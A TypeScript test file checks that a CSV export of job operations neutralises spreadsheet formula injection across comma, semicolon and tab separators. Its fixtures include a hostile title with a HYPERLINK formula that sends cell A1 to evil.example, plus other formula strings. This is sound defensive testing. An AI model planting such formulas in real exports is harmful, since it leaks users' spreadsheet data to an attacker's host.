import { describe, expect, it } from 'vitest'
import type { OperationView } from '../../../shared/domain/outbox'
import { operationsCsv } from './export'
import { HOSTILE_TITLE, readAsSpreadsheet, runsAsFormula, type QuoteReading } from './testing/spreadsheet'

const op: OperationView = {
  id: 1,
  jobId: 4,
  portalId: 'p',
  kind: 'page',
  targetId: 12,
  scope: '',
  action: 'publish',
  label: HOSTILE_TITLE,
  state: 'done',
  attempts: 1,
  error: null,
  updatedAt: 0
}

describe('a job export in any spreadsheet', () => {
  const csv = operationsCsv([op, { ...op, id: 2, label: 'Tab\t=1+1\t@SUM(A1)' }])

  it('opens with the hostile title in one cell when split on ;', () => {
    const rows = readAsSpreadsheet(csv, ';', 'anywhere')
    expect(rows).toHaveLength(3)
    // The line has no ; outside the quoted title: one cell, holding the whole title.
    expect(rows[1]).toHaveLength(1)
    expect(rows[1][0]).toContain(`Promo;'=HYPERLINK("https://evil.example/?"&A1;"Click")`)
  })

  it('keeps the title whole in a comma spreadsheet', () => {
    const rows = readAsSpreadsheet(csv, ',', 'anywhere')
    expect(rows[1][7]).toBe(`Promo;'=HYPERLINK("https://evil.example/?"&A1;"Click")`)
    expect(rows[2][7]).toBe("Tab\t'=1+1\t'@SUM(A1)")
  })

  const readings: Array<[string, QuoteReading]> = [
    [',', 'anywhere'],
    [';', 'anywhere'],
    ['\t', 'anywhere'],
    [',', 'at-start'],
    [';', 'at-start'],
    ['\t', 'at-start']
  ]
  it.each(readings)('runs no cell as a formula when split on %j reading quotes %s', (separator, quotes) => {
    const cells = readAsSpreadsheet(csv, separator, quotes).flat()
    expect(cells.filter(runsAsFormula)).toEqual([])
  })

  it('would have run the formula before: the test reader does split an unquoted title', () => {
    const unquoted = `1,4,${HOSTILE_TITLE},done\r\n`
    expect(readAsSpreadsheet(unquoted, ';', 'anywhere')[0].some(runsAsFormula)).toBe(true)
    expect(
      readAsSpreadsheet(`1,4,Promo;=HYPERLINK("x"),done\r\n`, ';', 'at-start')[0].some(runsAsFormula)
    ).toBe(true)
  })
})
